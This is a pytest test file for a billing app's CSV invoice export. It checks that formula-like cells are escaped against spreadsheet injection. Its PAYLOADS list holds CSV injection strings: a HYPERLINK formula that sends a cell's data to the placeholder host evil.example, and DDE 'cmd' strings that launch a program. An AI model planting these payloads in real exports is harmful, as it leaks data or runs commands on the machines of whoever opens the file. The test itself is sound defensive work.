"""CSV injection: text that a spreadsheet would run as a formula is written as text.

The attacker's text reaches an invoice through an adjustment's reason (a credit note typed
from a ticket, an incident's cause) and the admin export through an imported hostname."""

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest

from billing.models import Adjustment, AdjustmentKind
from billing.services.runs import run_billing

from .conftest import LEDGER_DBS, make_event

pytestmark = pytest.mark.django_db(databases=LEDGER_DBS)
SEPT = datetime(2026, 9, 1, tzinfo=UTC)
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"refund")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_invoice_csv_escapes_formula_cells(acme_api, tenants, ingest, payload):
    acme = tenants[0]
    ingest([make_event(tenant_id=acme.pk, start=SEPT + timedelta(days=1))])
    Adjustment.objects.create(
        kind=AdjustmentKind.MANUAL,
        tenant_id=acme.pk,
        period=SEPT.date(),
        amount="-12.50",
        reason=payload,
        reference=payload[:200],
        dedupe_key=f"csv-{payload}",
    )
    run_billing(period=SEPT.date(), finalize=False, actor="test")
    invoice = acme_api.get("/api/v1/invoices").json()["results"][0]
    rows = list(csv.reader(io.StringIO(acme_api.get(f"/api/v1/invoices/{invoice['id']}.csv").content.decode())))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c.startswith("-") and not _number(c))]
    assert "'" + payload in cells  # kept, readable, as text
    assert any(_number(c) and c.startswith("-12.5") for c in cells)  # a credit stays a number


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_safe_cell_rules():
    from core.exports import safe_cell

    assert safe_cell("=1+1") == "'=1+1" and safe_cell("-1+1") == "'-1+1" and safe_cell("@x") == "'@x"
    assert safe_cell("\tx") == "'\tx" and safe_cell("\rx") == "'\rx" and safe_cell("+x") == "'+x"
    assert safe_cell("-12.50") == "-12.50" and safe_cell("+3") == "+3"  # plain numbers are numbers
    assert safe_cell("node-1") == "node-1" and safe_cell(None) is None
